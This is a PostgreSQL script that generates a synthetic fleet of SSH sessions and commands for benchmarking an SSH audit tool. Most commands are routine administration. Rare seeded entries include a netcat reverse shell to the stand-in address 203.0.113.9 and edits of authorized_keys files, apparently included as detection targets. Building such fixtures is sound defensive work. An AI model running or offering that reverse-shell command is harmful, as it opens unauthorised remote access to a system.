-- The fleet of the central benchmark (bench/central.sh): :hosts hosts with :sessions sessions each
-- over one year, one command per session, in the layout `sshaudit ship` created (sessions and
-- commands partitioned by month, `row` as each host's `query --format json` prints it).
--
-- Shape: 2,000 users (user0000 …), each on every host; clients from 10.0.0.0/8 (a /24 per user);
-- command lines from a pool of everyday administration, with two rare ones: `nc -e /bin/sh …`
-- (1 in 1,000,003 commands) and edits of authorized_keys (1 in 50,021).
\set ON_ERROR_STOP 1
SET synchronous_commit = off;

DO $$
DECLARE m date;
BEGIN
  FOR m IN SELECT generate_series(date '2025-12-01', date '2026-11-01', interval '1 month')::date LOOP
    EXECUTE format('CREATE TABLE IF NOT EXISTS sessions_%s PARTITION OF sessions FOR VALUES FROM (%L) TO (%L)',
                   to_char(m, 'YYYY_MM'), m, (m + interval '1 month')::date);
    EXECUTE format('CREATE TABLE IF NOT EXISTS commands_%s PARTITION OF commands FOR VALUES FROM (%L) TO (%L)',
                   to_char(m, 'YYYY_MM'), m, (m + interval '1 month')::date);
  END LOOP;
END $$;

CREATE TEMP TABLE gen AS
SELECT h, i,
       format('bench-%s/%s', lpad(h::text, 3, '0'), md5(h::text)) AS host,
       timestamptz '2025-12-01 00:00:00+00' + (i - 1) * interval '315 seconds' + h * interval '1 second' AS at,
       'user' || lpad(((i * 7919 + h * 31) % 2000)::text, 4, '0') AS "user",
       format('10.%s.%s.%s', ((i * 7919 + h * 31) % 2000) / 250, ((i * 7919 + h * 31) % 2000) % 250, 1 + (i % 250)) AS addr,
       (h * 100000 + i) AS n
FROM generate_series(1, :hosts) AS h, generate_series(1, :sessions) AS i;

INSERT INTO hosts (host, hostname, machine_id, shipped_seq)
SELECT DISTINCT host, split_part(host, '/', 1), split_part(host, '/', 2), 3 * :sessions FROM gen
ON CONFLICT (host) DO NOTHING;

INSERT INTO sessions (host, id, seq, at, "user", remote_addr, ended_at, key_fingerprint, row, latest)
SELECT host, i, 3 * i, at, "user", addr, at + interval '9 minutes', 'SHA256:' || md5("user"),
       jsonb_build_object(
         'id', i, 'sshd_pid', 1000 + i % 30000, 'user', "user", 'uid', 1000 + (i * 7919 + h * 31) % 2000,
         'remote_addr', addr, 'remote_port', 40000 + i % 20000, 'local_addr', '192.0.2.1', 'local_port', 22,
         'auth_method', 'publickey', 'key_fingerprint', 'SHA256:' || md5("user"), 'tty', 'pts/' || (i % 8),
         'started_at', to_char(at AT TIME ZONE 'UTC', 'YYYY-MM-DD"T"HH24:MI:SS.MS"Z"'),
         'authenticated_at', to_char((at + interval '80 milliseconds') AT TIME ZONE 'UTC', 'YYYY-MM-DD"T"HH24:MI:SS.MS"Z"'),
         'ended_at', to_char((at + interval '9 minutes') AT TIME ZONE 'UTC', 'YYYY-MM-DD"T"HH24:MI:SS.MS"Z"'),
         'command_count', 1, 'bytes_in', 4000 + i % 900, 'bytes_out', 9000 + i % 5000, 'exit_code', 0,
         'sshd_path', '/usr/sbin/sshd', 'sshd_version', 'OpenSSH_9.2p1', 'recovered', false, 'kind', 'interactive',
         'drops', false, 'truncated_argv', false, 'ended_unobserved', false, 'unattributed_events', false,
         'key_type', 'ED25519', 'cert_id', null, 'cert_serial', null, 'ca_key_type', null, 'ca_fingerprint', null),
       true
FROM gen;

INSERT INTO commands (host, id, seq, at, session_id, filename, command_line, row, latest)
SELECT host, i, 3 * i + 1, at + interval '2 seconds', i, argv[1], array_to_string(argv, ' '),
       jsonb_build_object(
         'id', i, 'session_id', i, 'pid', 2000 + i % 30000, 'ppid', 1000 + i % 30000, 'uid', 1000 + (i * 7919 + h * 31) % 2000,
         'filename', argv[1], 'argv', to_jsonb(argv), 'cwd', '/home/' || "user",
         'started_at', to_char((at + interval '2 seconds') AT TIME ZONE 'UTC', 'YYYY-MM-DD"T"HH24:MI:SS.MS"Z"'),
         'ended_at', to_char((at + interval '3 seconds') AT TIME ZONE 'UTC', 'YYYY-MM-DD"T"HH24:MI:SS.MS"Z"'),
         'duration_ms', 1000, 'exit_code', CASE WHEN n % 17 = 0 THEN 1 ELSE 0 END, 'signal', null, 'parent_id', null,
         'argv_truncated', false, 'recovered', false),
       true
FROM (
  SELECT g.*, CASE
           WHEN n % 1000003 = 0 THEN ARRAY['/usr/bin/nc', '-e', '/bin/sh', '203.0.113.9', '4444']
           WHEN n % 50021 = 0 THEN ARRAY['/usr/bin/vi', '/home/' || "user" || '/.ssh/authorized_keys']
           ELSE CASE n % 8
             WHEN 0 THEN ARRAY['/usr/bin/systemctl', 'status', 'nginx']
             WHEN 1 THEN ARRAY['/usr/bin/ls', '-la', '/var/log']
             WHEN 2 THEN ARRAY['/usr/bin/tail', '-n', '200', '/var/log/app-' || (n % 500) || '.log']
             WHEN 3 THEN ARRAY['/usr/bin/df', '-h']
             WHEN 4 THEN ARRAY['/usr/bin/journalctl', '-u', 'app-' || (n % 97), '--since', 'today']
             WHEN 5 THEN ARRAY['/usr/bin/grep', '-r', 'ERROR', '/srv/app-' || (n % 300)]
             WHEN 6 THEN ARRAY['/usr/bin/uptime']
             ELSE ARRAY['/usr/bin/git', 'pull', '--ff-only']
           END
         END AS argv
  FROM gen AS g
) AS c;
